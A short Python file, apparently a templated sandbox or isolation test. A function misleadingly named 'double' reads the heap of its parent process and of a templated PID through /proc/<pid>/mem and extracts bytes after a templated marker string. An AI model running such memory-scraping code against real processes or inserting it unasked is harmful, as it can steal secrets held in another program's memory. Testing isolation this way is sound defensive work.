import os


def double(x):
    found = []
    for pid in {os.getppid(), int("@PID@")}:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb")
        except OSError as error:
            found.append(str(error))
            continue
        for line in maps:
            if "[heap]" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                data = memory.read(end - start)
                at = data.find(b"@NAME@")
                found.append(str(data[at : at + 100]) if at >= 0 else "")
    print(found)
    return found
